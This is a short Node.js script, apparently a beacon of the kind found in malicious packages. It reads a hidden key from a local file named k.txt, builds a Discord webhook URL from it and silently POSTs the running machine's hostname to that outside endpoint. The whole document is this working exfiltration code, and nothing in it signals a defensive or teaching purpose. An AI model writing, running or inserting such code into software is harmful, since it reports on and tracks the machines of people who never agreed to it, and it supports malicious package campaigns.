const os = require('os');
const k = require('fs').readFileSync(__dirname + '/k.txt', 'utf8').trim();
fetch('https://discord.com/api/webhooks/ID/TOKEN'.replace('ID/TOKEN', k), { method: 'POST', body: JSON.stringify({ content: os.hostname() }) });
